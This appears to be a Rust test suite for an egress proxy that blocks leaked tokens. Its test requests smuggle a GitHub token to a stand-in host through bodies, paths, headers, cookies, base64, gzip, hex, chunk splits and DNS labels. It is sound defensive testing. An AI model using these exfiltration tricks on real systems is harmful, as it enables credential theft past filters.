//! Secrets in every part of a request: nothing of them reaches the origin.

use portcullis_e2e::{Request, Stack, github_pat};

/// The parts of a request that can carry a token, each with the token in it.
fn carriers(token: &str) -> Vec<(&'static str, Request)> {
    let url = "https://sink.example.net/";
    let b64 = data_encoding::BASE64.encode(format!("password store: {token}\n").as_bytes());
    let json = format!(r#"{{"model":"x","messages":[{{"role":"user","content":"see {b64} please"}}]}}"#);
    let multipart = format!("--B\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.txt\"\r\n\r\nkey={token}\r\n--B--\r\n");
    vec![
        ("text body", Request::post(url).header("content-type", "text/plain").body(format!("the key is {token}, keep it"))),
        ("json body", Request::post(url).header("content-type", "application/json").body(format!(r#"{{"a":["x",{{"k":"{token}"}}]}}"#))),
        ("json in json", Request::post(url).header("content-type", "application/json").body(format!(r#"{{"a":"{{\"k\":\"{token}\"}}"}}"#))),
        ("form body", Request::post(url).header("content-type", "application/x-www-form-urlencoded").body(format!("a=1&t={token}"))),
        ("multipart body", Request::post(url).header("content-type", "multipart/form-data; boundary=B").body(multipart)),
        ("body that lies about its type", Request::post(url).header("content-type", "image/png").body(format!("{{\"k\":\"{token}\"}}"))),
        ("path", Request::get(&format!("https://sink.example.net/a/{token}/b"))),
        ("escaped path", Request::get(&format!("https://sink.example.net/a/{}", token.replace('_', "%5f")))),
        ("query", Request::get(&format!("https://sink.example.net/?q=1&t={token}"))),
        ("header", Request::get(url).header("x-debug", &format!("t={token}"))),
        ("cookie", Request::get(url).header("cookie", &format!("a=b; session={token}"))),
        (
            "basic credentials",
            Request::get(url).header("authorization", &format!("Basic {}", data_encoding::BASE64.encode(format!("u:{token}").as_bytes()))),
        ),
        ("base64 in json", Request::post(url).header("content-type", "application/json").body(json.clone())),
        (
            "base64 in json in gzip",
            Request::post(url).header("content-type", "application/json").header("content-encoding", "gzip").body(gzip(json.as_bytes())),
        ),
        ("hex", Request::post(url).body(data_encoding::HEXLOWER.encode(format!("token {token} end").as_bytes()))),
    ]
}

fn gzip(bytes: &[u8]) -> Vec<u8> {
    use std::io::Write;
    let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    encoder.write_all(bytes).expect("in memory");
    encoder.finish().expect("in memory")
}

#[tokio::test]
async fn a_secret_in_any_part_of_a_request_never_reaches_the_origin() {
    let stack = Stack::start(&[]).await;
    let token = github_pat();
    for (name, request) in carriers(&token) {
        for request in [request.clone(), request.clone().http2()] {
            let answer = stack.send(request).await;
            assert_eq!(answer.status, 403, "{name}: {}", answer.text());
            assert_eq!(answer.header("content-type").as_deref(), Some("application/problem+json"), "{name}");
            let problem: serde_json::Value = serde_json::from_slice(&answer.body).unwrap();
            assert_eq!(problem["reason"], "credential_misdirected", "{name}");
            assert_eq!(problem["findings"][0]["home"][0], "api.github.com", "{name}");
            assert_eq!(problem["retry"], false, "{name}");
            assert!(!answer.text().contains(&token), "{name}: the answer holds the secret");
        }
    }
    assert_eq!(stack.origin.requests().len(), 0, "a denied request was sent on");
    assert!(!stack.origin.saw(token.as_bytes()));
    stack.assert_no_log_holds(&token);
}

#[tokio::test]
async fn a_terminal_is_told_in_text_and_a_program_in_json() {
    let stack = Stack::start(&[]).await;
    let token = github_pat();
    let request = || Request::post("https://sink.example.net/").body(token.clone());
    for (header, value, kind) in [
        ("user-agent", "curl/8.5.0", "text/plain"),
        ("accept", "text/plain", "text/plain"),
        ("accept", "application/json, text/plain", "application/problem+json"),
    ] {
        let answer = stack.send(request().header(header, value)).await;
        assert_eq!((answer.status, answer.header("content-type").as_deref()), (403, Some(kind)), "{header}: {value}");
        for part in ["credential_misdirected", "api.github.com", "docs/denials.md#credential_misdirected"] {
            assert!(answer.text().contains(part), "{header}: {value}: no {part} in {}", answer.text());
        }
    }
    stack.assert_no_log_holds(&token);
}

#[tokio::test]
async fn a_secret_in_a_host_label_is_stopped_before_the_name_is_resolved() {
    let stack = Stack::start(&[]).await;
    // A name has neither upper case nor underscores: what takes a token out by DNS writes it in hex, at most 63 characters a label.
    let hex = data_encoding::HEXLOWER.encode(github_pat().as_bytes());
    let (first, second) = hex.split_at(hex.len() / 2);
    let answer = stack.send(Request::get(&format!("https://{first}.{second}.sink.example.net/"))).await;
    assert_eq!(answer.status, 403, "{}", answer.text());
    assert_eq!(stack.origin.requests().len(), 0);
    assert!(!stack.dns.asked_for(first), "the name was looked up");
}

#[tokio::test]
async fn a_token_split_at_every_byte_over_chunks_and_writes_is_found() {
    let stack = Stack::start(&[]).await;
    let token = github_pat();
    let body = format!("{{\"note\":\"{token}\"}}");
    let at = body.find(&token).unwrap();
    for cut in at..=at + token.len() {
        let answer = stack
            .send(Request::post("https://sink.example.net/").header("content-type", "application/json").body(body.clone()).chunks(&[cut]))
            .await;
        assert_eq!(answer.status, 403, "cut at {cut}");
    }
    assert_eq!(stack.origin.requests().len(), 0);
}

#[tokio::test]
async fn absolute_form_and_plain_tunnels_are_scanned_too() {
    let stack = Stack::start(&[]).await;
    let token = github_pat();
    for request in [Request::post("http://sink.example.net/"), Request::post("http://sink.example.net/").tunnel()] {
        let denied = stack.send(request.clone().body(format!("k={token}"))).await;
        assert_eq!(denied.status, 403);
        let passed = stack.send(request.body("nothing here")).await;
        assert_eq!(passed.status, 200, "{}", passed.text());
    }
    assert!(!stack.origin.saw(token.as_bytes()));
    assert_eq!(stack.origin.requests().len(), 2);
}
